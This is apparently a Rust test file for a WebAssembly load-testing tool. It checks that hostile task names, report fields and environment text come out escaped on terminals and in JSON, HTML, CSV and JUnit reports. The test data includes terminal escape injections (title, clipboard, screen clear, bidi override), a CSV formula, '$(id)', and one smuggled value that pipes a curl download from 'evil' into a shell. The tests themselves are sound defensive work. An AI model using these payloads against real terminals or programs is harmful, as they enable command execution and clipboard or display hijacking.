//! Tasks with hostile text: it reaches terminals and files only as harmless text.

use std::process::{Command, Stdio};

use crate::support::{Ran, gorgon, guest, run, wat};
use crate::terminal::on_a_terminal;

/// A window title, the clipboard, a cleared screen, C1 controls, reversed text, a formula and a command.
const TEXT: &str = "=evil\u{1b}]0;title\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{9b}31m\u{202e}more\u{1b}[31mred;$(id)";

/// The escape sequences and control characters in `written`, except colours, those of gorgon's progress line, newlines
/// and tabs.
pub(crate) fn unsafe_parts(written: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = written;
    while let Some(at) = rest.find(|c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || c == '\u{202e}') {
        let sequence = &rest[at..];
        let end = sequence.char_indices().skip(2).find(|(_, c)| c.is_ascii_alphabetic()).map_or(0, |(at, _)| at + 1);
        let is_csi = sequence.starts_with("\u{1b}[");
        // Colours, and what redraws a line: erase it, move up.
        let passes = is_csi && matches!(&sequence[end - 1..end], "m" | "K" | "A");
        if passes {
            rest = &sequence[end..];
        } else {
            found.push(sequence.chars().take(12).collect());
            rest = &sequence[sequence.chars().next().map_or(1, char::len_utf8)..];
        }
    }
    found
}

fn command(name: &str, act: &str) -> Command {
    let mut command = gorgon();
    command.arg(name).arg(guest("hostile")).args(["--env", &format!("TEXT={TEXT}")]);
    if name == "run" {
        command.args(["-n", "2"]);
    }
    command.args(["--", act]);
    command
}

#[test]
fn nothing_but_colours_reaches_a_terminal() {
    for name in ["run", "test"] {
        for act in ["say", "fail", "panic", "span", "lookup"] {
            let written = on_a_terminal(command(name, act), 80);
            assert_eq!(unsafe_parts(&written), Vec::<String>::new(), "{name} {act}: {written:?}");
            assert!(written.contains("evil") || act == "panic" || act == "lookup", "{name} {act}: {written:?}");
        }
    }
}

/// The same text with what a shell, a file name and a JSON string can hold.
fn hostile_name(end: &str) -> String {
    TEXT.replace(['$', '(', ')', ';', '='], "") + end
}

#[test]
fn no_command_shows_more_than_text_and_colours() {
    let directory = tempfile::tempdir().unwrap();
    let file = |name: &str, bytes: &[u8]| {
        let path = directory.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let escaped = TEXT.replace('\u{1b}', "\\u001b").replace('\u{7}', "\\u0007").replace('\u{9b}', "\\u009b");
    let noop = std::fs::read(guest("noop")).unwrap();
    let task = file(&hostile_name(".wasm"), &noop);
    let named = wat::parse_str(
        r#"(component (core module $m) (import "url=<https://x\1b]0;title\07\c2\9b31m\e2\80\ae>" (core module)))"#,
    );
    let named = file("named.wasm", &named.unwrap());
    let core = wat::parse_str(r#"(module (import "m\1b]0;t\07" "f\c2\9b" (func)) (func (export "x\e2\80\ae\1b[2J")))"#);
    let core = file("core.wasm", &core.unwrap());
    let suite = file(
        "suite.toml",
        format!("name = \"{escaped}\"\n[[run]]\nname = \"{escaped}\"\ntask = {task:?}\n").as_bytes(),
    );
    let key = file("key.toml", format!("\"{escaped}\" = 1\n").as_bytes());
    let raw = file("raw.toml", TEXT.as_bytes());
    let calls = file("calls.http", format!("GET http://127.0.0.1:1/{TEXT}\n{TEXT}: {TEXT}\n").as_bytes());
    let list = file("list.txt", format!("{TEXT}\nhttp://127.0.0.1:1/\n").as_bytes());
    let har =
        file("x.har", format!(r#"{{"log": {{"entries": [{{"request": {{"method": "{escaped}"}}}}]}}}}"#).as_bytes());
    let data = file("data.csv", format!("{TEXT},b\n1,2,3\n").as_bytes());
    let broken = file("broken.json", format!(r#"{{"schema": "gorgon.report/{escaped}"}}"#).as_bytes());
    let mut run = gorgon();
    let report = file("r.json", b"");
    run.args(["run", guest("hostile").to_str().unwrap(), "-n", "2", "--quiet", "--env", &format!("TEXT={TEXT}")]);
    run.args(["--json", &report, "--", "span"]).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
    let text = std::fs::read_to_string(&report).unwrap();
    // Every string of the report that is not checked, in turn.
    let edited = file("edited.json", text.replace("\"linux x86_64\"", &format!("\"{escaped}\"")).as_bytes());
    let slo = "span(none).p95<1s";
    let hostile = guest("hostile");
    let env = format!("TEXT={TEXT}");
    let probes = ["find", hostile.to_str().unwrap(), "--slo", slo, "--probe", "1s", "--budget", "4s", "--to", "10/s"];
    let find = [&probes[..], &["--env", &env, "--", "span"]].concat();
    let find_name = ["find", &task, "--slo", "p99<1s", "--probe", "1s", "--budget", "3s", "--to", "10/s", "-q"];
    for args in [
        &["run", &task, "-n", "2"][..],
        &["test", &task],
        &["inspect", &task],
        &["inspect", &task, "--json"],
        &["inspect", &named],
        &["inspect", &named, "--json"],
        &["run", &named],
        &["component", &core, "-o", "/dev/null"],
        &["inspect", &core],
        &["suite", &suite],
        &["suite", &key],
        &["suite", &raw],
        &["http", &calls],
        &["http", &calls, "--dry-run"],
        &["test", &calls, "--allow", "calls"],
        &["http", &list, "--dry-run"],
        &["http", &har, "--dry-run"],
        &["run", &task, "--data", &data],
        &["report", &broken],
        &["report", &edited],
        &["report", &edited, "--csv", "-"],
        &["report", &edited, "--by-result"],
        &["compare", &report, &edited, "--force"],
        &["compare", &report, TEXT],
        &["run", TEXT],
        &["run", &task, TEXT],
        &["new", TEXT],
        &["run", &task, "--dir", TEXT],
        &["run", &task, "--fail-if", TEXT],
        &["http", TEXT],
        &find,
        &find_name,
    ] {
        let mut command = gorgon();
        command.args(args);
        let written = on_a_terminal(command, 80);
        assert_eq!(unsafe_parts(&written), Vec::<String>::new(), "{args:?}: {written:?}");
        assert!(!written.is_empty() && written.len() < 200_000, "{args:?}: {} bytes", written.len());
    }
}

#[test]
fn nothing_unescaped_is_in_a_file() {
    let directory = tempfile::tempdir().unwrap();
    let file = |name: &str| directory.path().join(name);
    for act in ["say", "fail", "span"] {
        let mut run = gorgon();
        run.arg("run").arg(guest("hostile")).args(["-n", "2", "--quiet", "--env", &format!("TEXT={TEXT}")]);
        for (flag, name) in [("--json", "r.json"), ("--html", "r.html"), ("--csv", "r.csv"), ("--junit", "r.xml")] {
            run.arg(flag).arg(file(name));
        }
        run.args(["--hlog"]).arg(file("r.hlog")).args(["--", act]).stderr(Stdio::null());
        run.status().unwrap();
        for name in ["r.json", "r.html", "r.csv", "r.xml", "r.hlog"] {
            let text = std::fs::read_to_string(file(name)).unwrap();
            let parts = unsafe_parts(&text);
            assert!(parts.is_empty(), "{act} {name}: {parts:?}");
        }
        let csv = std::fs::read_to_string(file("r.csv")).unwrap();
        let cells: Vec<String> = csv::Reader::from_reader(csv.as_bytes())
            .records()
            .flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        assert!(!cells.iter().any(|cell| cell.starts_with(['=', '+', '@'])), "{act}: {csv}");
        assert!(cells.iter().any(|cell| cell.starts_with("'=evil")), "{act}: {csv}");
    }
}

#[test]
fn huge_names_are_refused_counted_and_cut() {
    for extent in [["-n", "3"], ["-d", "2s"]] {
        let ran = run(&guest("hostile"), &[&extent[..], &["--quiet", "--", "lookups"]].concat());
        assert_eq!(ran.adds_up().code, Some(0), "{extent:?}: {}", ran.stderr);
        assert_eq!(ran.report["runs"][0]["faults"].as_array().map(Vec::len), Some(0), "{extent:?}");
        let size = ran.report.to_string().len();
        assert!(size < 200_000, "{size} bytes of report");
        let refused = refused(&ran);
        let times: u64 = refused.iter().map(|(_, times, _)| times).sum();
        assert_eq!(times, 3 * ran.figure("/operations/completed"));
        assert!(refused.iter().all(|(name, ..)| name.len() <= 256));
    }
}

/// The host must bound these, because the memory limit of the guest does not cover what the host keeps.
#[test]
fn huge_names_of_spans_are_not_kept() {
    let ran = run(&guest("hostile"), &["-n", "2", "--quiet", "--", "open"]);
    assert_eq!(ran.adds_up().code, Some(0), "{}", ran.stderr);
    for worker in ran.report["runs"][0]["workers"].as_array().unwrap() {
        let peak = worker["peak_rss_bytes"].as_u64().unwrap();
        assert!(peak < 400 << 20, "{peak} bytes for 100 names of 10 MiB");
    }
}

#[test]
fn names_in_inspected_or_unreadable_files_are_escaped() {
    // The name of the export makes the file unusable, and the error quotes it.
    let named =
        wat(r#"(component (core module $m) (export "url=<a\1b]0;title\07\c2\9b31m\e2\80\ae>" (core module $m)))"#);
    for args in [&["inspect"][..], &["test"], &["run"]] {
        let mut command = gorgon();
        command.args(args).arg(named.path());
        let written = on_a_terminal(command, 80);
        assert_eq!(unsafe_parts(&written), Vec::<String>::new(), "{args:?}: {written:?}");
        assert!(written.contains("]0;title"), "{args:?}: the name is not shown, so this tests nothing: {written:?}");
    }
}

#[test]
fn reports_on_a_terminal_contain_no_escape_sequences() {
    let directory = tempfile::tempdir().unwrap();
    let report = directory.path().join("r.json");
    let mut run = gorgon();
    run.arg("run").arg(guest("hostile")).args(["-n", "2", "--quiet", "--env", &format!("TEXT={TEXT}"), "--json"]);
    run.arg(&report).args(["--", "span"]).stdout(Stdio::null()).stderr(Stdio::null());
    run.status().unwrap();
    for format in [&[][..], &["--json", "-"], &["--html", "-"], &["--csv", "-"], &["--junit", "-"], &["--hlog", "-"]] {
        let mut rendered = gorgon();
        rendered.arg("report").arg(&report).args(format);
        let written = on_a_terminal(rendered, 80);
        assert_eq!(unsafe_parts(&written), Vec::<String>::new(), "{format:?}");
    }
}

fn refused(ran: &Ran) -> Vec<(String, u64, Option<String>)> {
    let refused = ran.report["runs"][0]["network"]["refused"].as_array().cloned().unwrap_or_default();
    let text = |value: &serde_json::Value| value.as_str().map(str::to_owned);
    let of = |of: &serde_json::Value| {
        (text(&of["destination"]).unwrap_or_default(), of["count"].as_u64().unwrap_or_default(), text(&of["flag"]))
    };
    refused.iter().map(of).collect()
}

#[test]
fn a_suggestion_is_always_a_valid_destination() {
    for (name, flag) in [
        ("x:1;curl\u{20}evil|sh;#", None),
        ("$(id)", None),
        ("db.example.com", Some("--allow tcp://db.example.com:PORT")),
    ] {
        let ran = run(&guest("hostile"), &["-n", "1", "--quiet", "--env", &format!("TEXT={name}"), "--", "lookup"]);
        let refused = refused(&ran);
        assert_eq!(refused.len(), 1, "{name}: {refused:?}");
        assert_eq!(refused[0].2.as_deref(), flag, "{name}");
    }
}
